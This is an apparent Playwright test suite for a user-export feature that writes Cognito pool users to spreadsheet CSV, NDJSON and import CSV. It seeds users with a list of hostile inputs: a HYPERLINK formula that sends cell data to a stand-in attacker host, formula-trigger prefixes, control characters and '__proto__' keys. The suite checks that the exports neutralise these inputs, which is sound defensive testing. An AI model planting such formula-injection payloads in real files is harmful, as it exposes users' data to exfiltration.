import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import type { PoolUser } from '#local-pool/types.ts';
import type { Connection } from '#shared/domain/connection.ts';
import { expectWhole } from './support/copy.ts';
import { chooseInDialog, proposedFiles } from './support/export-file.ts';
import { type Lifeguard, launchLifeguard, newDataDir, removeDataDirs } from './support/lifeguard.ts';
import { type OwnPool, saveConnections, startOwnPool } from './support/own-pool.ts';
import { isFormula, readCsv, readImportRow } from './support/table-file.ts';
import { listStatus, search } from './support/window.ts';

/** Files that the program wrote, opened again and compared with the pool. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+49 (0) 30',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1",
  'a "quoted", and, comma',
  'two\nlines',
  ' blanks ',
  '\u202eright to left',
  'NUL \u0000 in it',
  'Ἀχιλλέας 🦊',
  '',
];
const FORMATS = {
  spreadsheet: 'CSV for spreadsheets',
  ndjson: 'NDJSON, exact',
  'cognito-import': 'Cognito’s import CSV',
};

let own: OwnPool;
let connection: Connection;
let lifeguard: Lifeguard;
let folder: string;
const dialog = () => lifeguard.window.getByRole('dialog', { name: 'Export users' });
const inPool = (): PoolUser[] => [...own.pool.store.after(undefined)];
const bySub = (a: { sub: string }, b: { sub: string }) => (a.sub < b.sub ? -1 : 1);

test.beforeAll(async () => {
  own = await startOwnPool();
  for (const [index, value] of HOSTILE.entries()) {
    own.pool.admin.createUser({
      username: `hostile-${index}`,
      groups: ['customers', '__proto__'],
      attributes: [
        ['email', `hostile-${index}@example.com`],
        ['email_verified', 'true'],
        ['name', value],
        ['custom:notes', value],
        ['__proto__', value],
      ],
    });
  }
  connection = own.connectionByKeys('keys', 'Acme');
  const dataDir = await newDataDir();
  folder = await newDataDir();
  await saveConnections(dataDir, [connection]);
  lifeguard = await launchLifeguard({ dataDir, env: own.env });
  await expectWhole(lifeguard.window, own.pool.store.size);
});
test.afterAll(async () => {
  await lifeguard.quit();
  await own.stop();
  await removeDataDirs();
});
test.afterEach(async () => {
  own.heal();
  if (await dialog().isVisible()) await dialog().getByRole('button', { name: 'Close' }).last().click();
});

async function begin(format: keyof typeof FORMATS): Promise<void> {
  await lifeguard.window.getByRole('main').getByRole('button', { name: 'Export…' }).click();
  await dialog().getByRole('radio', { name: FORMATS[format] }).click();
  await dialog().getByRole('button', { name: 'Choose a file and export' }).click();
}

async function exported(format: keyof typeof FORMATS, name: string): Promise<string> {
  const file = join(folder, name);
  await chooseInDialog(lifeguard, file);
  await begin(format);
  await expect(dialog()).toContainText('written.');
  return readFile(file, 'utf8');
}

/** The columns of the list, by its address. */
async function showColumns(columns: readonly string[]): Promise<void> {
  await lifeguard.window.evaluate(
    (hash) => {
      location.hash = hash;
    },
    `#/users?cols=${encodeURIComponent(JSON.stringify(columns))}`,
  );
  await expect(listStatus(lifeguard.window)).toHaveText(`${own.pool.store.size} users`);
}

test('the CSV for spreadsheets holds every value, and no formula', async () => {
  const attributes = ['sub', 'email', 'name', 'custom:notes', 'phone_number', '__proto__'];
  const columns = [...attributes.map((name) => `attr:${name}`), 'username', 'status', 'enabled', 'groups'];
  await showColumns(columns);
  const text = await exported('spreadsheet', 'users.csv');
  const [proposed = ''] = await proposedFiles(lifeguard);
  expect(proposed).toMatch(/users Acme.*\.csv$/);
  const [head, ...rows] = readCsv(text);
  expect(head).toEqual([...attributes, 'Username', 'Status', 'Enabled', 'Groups']);
  expect(rows.flat().filter(isFormula)).toEqual([]);
  /** Taking the apostrophe away gives the value back. */
  const given = (cell: string) => (/^'+[=+\-@\t\r\n＝＋－＠]/u.test(cell) ? cell.slice(1) : cell);
  const found = rows
    .map((row) => row.map(given))
    .map((row) => ({ sub: row[0] ?? '', row: row.slice(0, -1), groups: row.at(-1)?.split('; ').sort() }));
  const expected = inPool().map((user) => ({
    sub: user.sub,
    row: [
      ...attributes.map((name) => user.attributes.get(name) ?? ''),
      user.username,
      user.status,
      String(user.enabled),
    ],
    groups: user.groups.size === 0 ? [''] : [...user.groups].sort(),
  }));
  expect(found.sort(bySub)).toEqual(expected.sort(bySub));
});

test('the NDJSON is exact: every attribute and group of every user', async () => {
  const text = await exported('ndjson', 'users.ndjson');
  const lines = text.trimEnd().split('\n');
  const found = lines.map((line) => {
    const user = JSON.parse(line) as PoolUser & { attributes: Record<string, string>; groups: string[] };
    const { sub, username, status, enabled } = user;
    return { sub, username, status, enabled, groups: [...user.groups].sort(), of: pairs(user.attributes) };
  });
  const expected = inPool().map(({ sub, username, status, enabled, attributes, groups }) => {
    return { sub, username, status, enabled, groups: [...groups].sort(), of: [...attributes].sort() };
  });
  expect(found.sort(bySub)).toEqual(expected.sort(bySub));
  const times = lines.map((line) => JSON.parse(line) as { sub: string; createdAt: string });
  // Cognito gives times in whole milliseconds at best.
  for (const { sub, createdAt } of times)
    expect(Math.abs(Date.parse(createdAt) - (own.pool.store.bySub(sub)?.createdAt ?? 0))).toBeLessThan(1_000);
});

function pairs(object: Record<string, string>): (readonly [string, string])[] {
  return Object.entries(object).sort();
}

test('the import CSV has Cognito’s columns, and says whom it left out', async () => {
  const text = await exported('cognito-import', 'import.csv');
  const left = Number(/(\d+) users? left out/.exec((await dialog().textContent()) ?? '')?.[1]);
  const [head = '', ...lines] = text.trimEnd().split(/\r?\n/);
  expect(head.split(',')).toEqual(expect.arrayContaining(['cognito:username', 'email', 'custom:tier']));
  const header = head.split(',');
  expect(lines.length + left).toBe(own.pool.store.size);
  for (const line of lines) {
    const cells = new Map(readImportRow(line).map((cell, index) => [header[index] ?? '', cell]));
    const user = own.pool.store.byUsername(cells.get('cognito:username') ?? '');
    if (!user) throw new Error(`nobody is called ${cells.get('cognito:username')}`);
    expect(user.status).not.toBe('EXTERNAL_PROVIDER');
    expect(cells.size).toBe(header.length);
    for (const [name, cell] of cells) {
      if (name === 'cognito:username' || name === 'cognito:mfa_enabled' || name.endsWith('_verified'))
        continue;
      expect(cell, `${name} of ${user.username}`).toBe(user.attributes.get(name) ?? '');
    }
    expect(['true', 'false']).toContain(cells.get('email_verified'));
  }
});

test('an export that is stopped leaves no file, nor does one without a choice', async () => {
  const empty = await newDataDir();
  await chooseInDialog(lifeguard, join(empty, 'users.csv'));
  // The pool is asked for the columns; while it thinks, somebody changes their mind.
  own.pool.behaviour.latencyMs = 4_000;
  await begin('cognito-import');
  await dialog().getByRole('button', { name: 'Stop' }).click();
  await expect(dialog()).toContainText('Stopped. No file was left behind.');
  expect(await readdir(empty)).toEqual([]);
  await dialog().getByRole('button', { name: 'Close' }).last().click();
  own.heal();

  await chooseInDialog(lifeguard, null);
  await begin('ndjson');
  await expect(dialog()).toContainText('No file was chosen; nothing was written.');
  expect(await readdir(empty)).toEqual([]);
});

test('a folder that is gone is named, and the next try works', async () => {
  await chooseInDialog(lifeguard, join(folder, 'gone', 'users.csv'));
  await begin('spreadsheet');
  await expect(dialog().getByRole('alert')).toContainText('The folder is not there any more.');
  await dialog().getByRole('button', { name: 'Export again' }).click();
  await chooseInDialog(lifeguard, join(folder, 'again.csv'));
  await dialog().getByRole('button', { name: 'Choose a file and export' }).click();
  await expect(dialog()).toContainText(`${own.pool.store.size} users written.`);
});

test('exports what is selected, in the order of the list', async () => {
  const { window } = lifeguard;
  await search(window, 'user:hostile-1');
  await window.getByRole('grid', { name: 'Users' }).focus();
  await window.keyboard.press('Space');
  await window.keyboard.press('Shift+ArrowDown');
  await window.keyboard.press('Shift+ArrowDown');
  const file = join(folder, 'some.ndjson');
  await chooseInDialog(lifeguard, file);
  await window
    .getByRole('region', { name: 'Selected users' })
    .getByRole('button', { name: 'Export…' })
    .click();
  await dialog().getByRole('radio', { name: FORMATS.ndjson }).click();
  await dialog().getByRole('button', { name: 'Choose a file and export' }).click();
  await expect(dialog()).toContainText('3 users written.');
  const names = (await readFile(file, 'utf8'))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line).username);
  expect(names).toHaveLength(3);
  expect(names.every((name) => name.startsWith('hostile-1'))).toBe(true);
});
